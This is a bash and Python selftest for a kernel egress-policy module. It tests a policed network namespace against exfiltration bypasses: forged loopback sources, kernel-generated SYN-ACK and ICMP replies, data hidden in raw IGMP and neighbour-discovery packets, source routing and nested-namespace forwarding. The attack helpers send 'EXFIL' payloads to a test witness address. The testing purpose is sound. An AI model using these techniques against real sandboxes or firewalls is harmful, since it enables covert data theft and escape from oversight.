#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0
#
# Forged "reply" state and the kernel's own packets (issue 9, classes 1
# and 6; DESIGN.md section 2, Trust).  A process in the policed namespace
# sends over loopback from an address that is not its own (IPV6_FREEBIND:
# no privilege; IP_TRANSPARENT: CAP_NET_RAW) to its own address.  Conntrack
# takes that as a connection from outside, so the other direction is a
# "reply": it must not pass to a destination the policy does not allow, and
# neither must the kernel's answers (SYN-ACK, ICMP errors) to such packets.
# Only connections egressk saw arrive on the uplink are inbound.
#
#   agent netns (policed: allow API only)      net netns (witness)
#     veth0 192.0.2.1/24    <------------>       veth1 192.0.2.2 (API), .3 (OTHER)
#           2001:db8::1/64                             2001:db8::2 (API), ::3 (OTHER)
#     lo:   forged source OTHER -> own address     nft ingress counters on veth1,
#           (the seed; never leaves)               one per attack (its port or
#     netprobe server :7200 (inbound check)        ICMP type); a netprobe client
#                                                  for the inbound check
#
# Every attack runs twice: with no policy (the witness counts its bytes:
# the attack works, so the test can fail) and with the policy (the witness
# counts nothing, and monitor names the reason).
source "$(dirname "$0")/lib.sh"
require_built
module_load || bail "module loads"
topo_basic

MON=$TMPD/monitor.json
ATK=$TMPD/attack.py
# the unprivileged attacker must be able to read its script
chmod 755 "$TMPD"
cat >"$ATK" <<'PYEOF'
# attack.py KIND FAMILY OWN OTHER PORT
#   udp-reply: seed OTHER:PORT -> OWN:PORT+100 over lo, then "reply" to it
#   syn:       connect from OTHER:PORT to a listener on OWN:PORT+100 (the
#              kernel's SYN-ACK goes to OTHER)
#   icmp-err:  UDP from OTHER:PORT to a closed port OWN:PORT+100 (the
#              kernel's port unreachable goes to OTHER, quoting the payload)
import socket, sys, time
kind, fam, own, other, port = sys.argv[1:6]
port = int(port)
af = socket.AF_INET6 if fam == "6" else socket.AF_INET
IP_TRANSPARENT, IPV6_FREEBIND = 19, 78

def forged(stype):
    s = socket.socket(af, stype)
    if af == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    else:
        s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    s.bind((other, port))
    return s

payload = b"EXFIL-" + kind.encode() * 8
if kind == "udp-reply":
    r = socket.socket(af, socket.SOCK_DGRAM)
    r.bind((own, port + 100))
    r.settimeout(3)
    s = forged(socket.SOCK_DGRAM)
    s.sendto(b"seed", (own, port + 100))
    _, peer = r.recvfrom(100)
    print("seeded from", peer[0], peer[1])
    try:
        r.sendto(payload, peer[:2])
        print("reply sent")
    except OSError as e:
        print("reply refused:", e.strerror)
elif kind == "syn":
    ls = socket.socket(af, socket.SOCK_STREAM)
    ls.bind((own, port + 100))
    ls.listen(5)
    s = forged(socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((own, port + 100))
        print("connected (unexpected)")
    except OSError as e:
        print("connect:", e.strerror or e)
elif kind == "icmp-err":
    s = forged(socket.SOCK_DGRAM)
    s.sendto(payload, (own, port + 100))
    time.sleep(0.5)
    print("sent to a closed port")
PYEOF
chmod 644 "$ATK"

# mon_has REASON DADDR PROTO: monitor reported such an event
mon_has() {
	python3 - "$MON" "$@" <<'PY'
import json, sys
mon, reason, daddr, proto = sys.argv[1:5]
for line in open(mon):
    try:
        o = json.loads(line)
    except ValueError:
        continue
    if o.get("reason") == reason and o.get("daddr") == daddr and \
       o.get("proto", "").startswith(proto):
        sys.exit(0)
sys.exit(1)
PY
}

# Witness: netdev ingress counters on veth1, before anything in net routes
# or filters.
ip netns exec "$NET" nft -f - <<EOF || bail "witness nft table"
table netdev witness {
	chain in {
		type filter hook ingress device veth1 priority 0;
		udp dport 7001 counter name udp4
		udp dport 7002 counter name udp6
		tcp sport 7103 counter name synack4
		tcp sport 7104 counter name synack6
		icmp type destination-unreachable counter name icmperr4
		icmpv6 type destination-unreachable counter name icmperr6
		tcp dport 7005 counter name srr4
		ip protocol igmp ip daddr $OTHER4 counter name rawigmp
		icmpv6 type nd-neighbor-advert ip6 daddr $OTHER6 ip6 length > 200 counter name rawnd
	}
	counter udp4 { }
	counter udp6 { }
	counter synack4 { }
	counter synack6 { }
	counter icmperr4 { }
	counter icmperr6 { }
	counter srr4 { }
	counter rawigmp { }
	counter rawnd { }
}
EOF
witness() {	# witness NAME -> packets counted so far
	ip netns exec "$NET" nft -j list counter netdev witness "$1" |
		python3 -c 'import json,sys; d=json.load(sys.stdin)["nftables"]; print([x["counter"]["packets"] for x in d if "counter" in x][0])'
}
witness_reset() { ip netns exec "$NET" nft reset counters table netdev witness >/dev/null; }

# attack NAME WHO KIND FAMILY PORT: run it in the agent; WHO is root or nobody
attack() {
	local who=$2 kind=$3 fam=$4 port=$5 own other
	if [ "$fam" = 6 ]; then own=$A6 other=$OTHER6; else own=$A4 other=$OTHER4; fi
	if [ "$who" = nobody ]; then
		ip netns exec "$AGENT" setpriv --reuid=65534 --regid=65534 --clear-groups \
			--inh-caps=-all --bounding-set=-all \
			python3 -I -S "$ATK" "$kind" "$fam" "$own" "$other" "$port"
	else
		ip netns exec "$AGENT" python3 -I -S "$ATK" "$kind" "$fam" "$own" "$other" "$port"
	fi
}

# the same attack without and with the policy: CNT is the witness counter,
# PROTO what monitor must report as refused (the attempt was made)
run_attack() {	# run_attack WHAT CNT PROTO WHO KIND FAMILY PORT
	local what=$1 cnt=$2 proto=$3 n other; shift 3
	if [ "$3" = 6 ]; then other=$OTHER6; else other=$OTHER4; fi
	ctl clear --netns-name "$AGENT" >/dev/null 2>&1
	witness_reset
	attack "$what" "$@" >"$TMPD/atk.out" 2>&1
	sleep 0.3
	n=$(witness "$cnt")
	if [ "${n:-0}" -gt 0 ]; then
		ok "$what: without a policy the witness sees it ($n packets)"
	else
		nok "$what: without a policy the witness sees it" "$(cat "$TMPD/atk.out")"
	fi
	apply "$AGENT" "$POL" >/dev/null || bail "apply the policy"
	witness_reset
	attack "$what" "$@" >"$TMPD/atk.out" 2>&1
	sleep 0.3
	n=$(witness "$cnt")
	if [ "${n:-1}" -eq 0 ]; then
		ok "$what: with the policy nothing reaches the witness"
	else
		nok "$what: with the policy nothing reaches the witness" \
			"$n packets; attacker: $(cat "$TMPD/atk.out")"
	fi
	wait_for 5 mon_has default "$other" "$proto" &&
		ok "$what: monitor names reason 'default' ($proto to $other)" ||
		nok "$what: monitor names reason 'default' ($proto to $other)" \
			"attacker: $(cat "$TMPD/atk.out")"
}

POL=$(policy trust <<EOF
allow cidr $API4
allow cidr $API6
EOF
)
POLRAW=$(policy trustraw <<EOF
allow cidr $API4
allow cidr $API6
allow raw
EOF
)

# monitor: every event, for the reasons
"$CTL" monitor --json >"$MON" 2>/dev/null &
_pids+=($!)
sleep 0.5

# ---------------------------------------------------------------- class 1
run_attack "v6 UDP reply to a forged loopback seed (FREEBIND, no capability)" \
	udp6 udp nobody udp-reply 6 7002
run_attack "v4 UDP reply to a forged loopback seed (IP_TRANSPARENT)" \
	udp4 udp root udp-reply 4 7001
run_attack "v4 SYN-ACK to a forged loopback SYN" synack4 tcp root syn 4 7003
run_attack "v6 SYN-ACK to a forged loopback SYN (no capability)" \
	synack6 tcp nobody syn 6 7004
run_attack "v4 ICMP port unreachable quoting a forged packet" \
	icmperr4 icmp root icmp-err 4 7006
run_attack "v6 ICMP port unreachable quoting a forged packet (no capability)" \
	icmperr6 icmp nobody icmp-err 6 7007

# A raw socket forges anything over loopback as well: without "allow raw"
# it is refused there too, so it cannot seed state of any kind.
ctl clear --netns-name "$AGENT" >/dev/null 2>&1
check "raw socket echo over loopback works without a policy" \
	probe "$AGENT" icmp 127.0.0.1 --raw --timeout 3
apply "$AGENT" "$POL" >/dev/null || bail "apply the policy"
check_fail "raw socket over loopback is refused without 'allow raw'" \
	probe "$AGENT" icmp 127.0.0.1 --raw --timeout 1
check_fail "raw socket over loopback (IPv6) is refused without 'allow raw'" \
	probe "$AGENT" icmp ::1 --raw --timeout 1
check "monitor names reason 'raw-socket' for loopback" \
	wait_for 5 mon_has raw-socket 127.0.0.1 icmp

# Connections that really come from outside still get their replies.
apply "$AGENT" "$POL" >/dev/null || bail "apply the policy"
serve "$AGENT" --tcp 7200 --udp 7200
check "inbound TCP from $OTHER4 (outside) to the agent: replies pass" \
	probe "$NET" tcp $A4 7200 --timeout 5
check "inbound TCP over IPv6 from outside: replies pass" \
	probe "$NET" tcp $A6 7200 --timeout 5
check "inbound UDP from outside: the echo passes" probe "$NET" udp $A4 7200 --timeout 5
n=$(stat_num "$AGENT" '^inbound_active$')
if [ "${n:-0}" -ge 1 ]; then ok "stats: inbound_active counts the recorded connections ($n)"
else nok "stats: inbound_active counts the recorded connections" "got '${n:-}'"; fi
check "an echo request from outside: the echo reply passes" \
	probe "$NET" icmp $A4 --raw --timeout 3

# ---------------------------------------------------------------- class 6
# A SYN refused for its source route fails connect() at once, instead of
# retrying its SYN until the client's own timeout.
SRR=$TMPD/srr.py
cat >"$SRR" <<'PYEOF'
import socket, struct, sys, time
hop, dst = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# LSRR (131): len 7, pointer 4, one hop; then NOP to fill 8 bytes
opt = bytes([131, 7, 4]) + socket.inet_aton(dst) + bytes([1])
s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, opt)
s.settimeout(5)
t = time.monotonic()
try:
    s.connect((hop, 7005))
    print("ok %.3f" % (time.monotonic() - t)); sys.exit(0)
except OSError as e:
    print("refused %.3f %s" % (time.monotonic() - t, e.strerror or e)); sys.exit(1)
PYEOF
ctl clear --netns-name "$AGENT" >/dev/null 2>&1
witness_reset
ip netns exec "$AGENT" python3 -I -S "$SRR" $API4 $OTHER4 >"$TMPD/srr.out" 2>&1
n=$(witness srr4)
if [ "${n:-0}" -gt 0 ]; then ok "source-routed SYN: without a policy it reaches the witness"
else nok "source-routed SYN: without a policy it reaches the witness" "$(cat "$TMPD/srr.out")"; fi
apply "$AGENT" "$POL" >/dev/null || bail "apply the policy"
witness_reset
out=$(ip netns exec "$AGENT" python3 -I -S "$SRR" $API4 $OTHER4 2>&1)
secs=$(echo "$out" | awk '{print $2}')
if echo "$out" | grep -q "^refused" && lt "${secs:-9}" 1.0; then
	ok "source-routed SYN: connect() fails at once ($out)"
else
	nok "source-routed SYN: connect() fails at once" "$out"
fi
n=$(witness srr4)
[ "${n:-1}" -eq 0 ] && ok "source-routed SYN: nothing reaches the witness" ||
	nok "source-routed SYN: nothing reaches the witness" "$n packets"
check "monitor names reason 'source-route'" grep -q '"reason":"source-route"' "$MON"

# "allow raw" never lifts the destination check for IGMP or neighbour
# discovery to addresses that are not link-local or multicast.
RAWP=$TMPD/raw.py
cat >"$RAWP" <<'PYEOF'
import socket, sys
kind, dst = sys.argv[1], sys.argv[2]
pad = b"EXFIL" * 60
try:
    if kind == "igmp":
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IGMP)
        # a v2 membership report carrying data
        s.sendto(bytes([0x16, 0, 0, 0]) + socket.inet_aton("239.1.2.3") + pad, (dst, 0))
    else:
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        # a neighbour advertisement (136) carrying data
        na = bytes([136, 0, 0, 0, 0x60, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "2001:db8::1")
        s.sendto(na + pad, (dst, 0))
    print("sent")
except OSError as e:
    print("refused", e.strerror)
    sys.exit(1)
PYEOF
for k in igmp nd; do
	if [ $k = igmp ]; then dst=$OTHER4; else dst=$OTHER6; fi
	ctl clear --netns-name "$AGENT" >/dev/null 2>&1
	witness_reset
	ip netns exec "$AGENT" python3 -I -S "$RAWP" $k $dst >"$TMPD/raw.out" 2>&1
	sleep 0.3
	n=$(witness raw$k)
	if [ "${n:-0}" -gt 0 ]; then ok "raw $k to unicast $dst: without a policy it reaches the witness"
	else nok "raw $k to unicast $dst: without a policy it reaches the witness" "$(cat "$TMPD/raw.out")"; fi
	apply "$AGENT" "$POLRAW" >/dev/null || bail "apply the allow-raw policy"
	witness_reset
	ip netns exec "$AGENT" python3 -I -S "$RAWP" $k $dst >"$TMPD/raw.out" 2>&1
	sleep 0.3
	n=$(witness raw$k)
	if [ "${n:-1}" -eq 0 ]; then ok "raw $k to unicast $dst under 'allow raw': nothing reaches the witness"
	else nok "raw $k to unicast $dst under 'allow raw': nothing reaches the witness" "$n packets; $(cat "$TMPD/raw.out")"; fi
done
# and the kernel's own neighbour discovery still works under the policy
apply "$AGENT" "$POL" >/dev/null || bail "apply the policy"
ip -n "$AGENT" neigh flush dev veth0
serve "$NET" --tcp 7300
check "IPv6 to the allowed API works after a neighbour flush (the kernel's ND passes)" \
	tcp_ok "$AGENT" $API6 7300
check "IPv4 to the allowed API works after a neighbour flush" tcp_ok "$AGENT" $API4 7300

# ---------------------------------------------------------------- FORWARD
# A nested namespace forwarding through the policed one is judged like the
# namespace's own traffic; what comes back in on the uplink is not egress.
# The agent builds it itself, as an attacker with NET_ADMIN and SYS_ADMIN
# would, once the policy is in place: its veth to the nested namespace is
# then not an uplink, although its other end is in another namespace.  It
# masquerades, so that the host-side guard's source check passes and only
# the destination decides.  The witness run uses a policy that allows
# everything (a replace, not a clear, which would re-attach the namespace
# and take the nested veth, present by then, for an uplink).
#
#   nested netns  nv1 10.9.0.2/24 -- nv0 10.9.0.1/24  agent (ip_forward=1,
#                                                      masquerade on veth0)
ctl clear --netns-name "$AGENT" >/dev/null 2>&1
apply "$AGENT" "$POL" >/dev/null || bail "apply the policy"
ns_create NESTED nested
ip netns exec "$AGENT" ip link add nv0 type veth peer name nv1 netns "$NESTED" ||
	bail "nested veth pair, made from inside the agent"
ip -n "$AGENT" link set nv0 up && ip -n "$NESTED" link set nv1 up || bail "nested links up"
addr "$NESTED" nv1 10.9.0.2/24 && addr "$AGENT" nv0 10.9.0.1/24 || bail "nested addresses"
ip -n "$NESTED" route add default via 10.9.0.1 || bail "nested route"
ip netns exec "$AGENT" sysctl -qw net.ipv4.ip_forward=1
ip netns exec "$AGENT" nft -f - <<EOF || bail "masquerade in the agent"
table ip egknat {
	chain post { type nat hook postrouting priority 100; oifname "veth0" masquerade; }
}
EOF
serve "$NET" --tcp 7400
POLALL=$(policy all <<EOF
allow cidr 0.0.0.0/0
allow cidr ::/0
EOF
)
apply "$AGENT" "$POLALL" >/dev/null || bail "apply the allow-all policy"
check "nested: under a policy that allows everything it reaches $OTHER4 through the agent" \
	tcp_ok "$NESTED" $OTHER4 7400
apply "$AGENT" "$POL" >/dev/null || bail "apply the policy"
check "nested: the allowed API is reached through the policed namespace (replies pass)" \
	tcp_ok "$NESTED" $API4 7400
check "nested: $OTHER4 is refused at once (FORWARD judged like LOCAL_OUT)" \
	tcp_refused_fast "$NESTED" $OTHER4 7400
n=$(stat_num "$AGENT" '^inbound_active$')
[ "${n:-1}" -eq 0 ] &&
	ok "nested: nothing arriving on the agent's own veth to it is recorded as inbound" ||
	nok "nested: nothing arriving on the agent's own veth to it is recorded as inbound" "inbound_active $n"
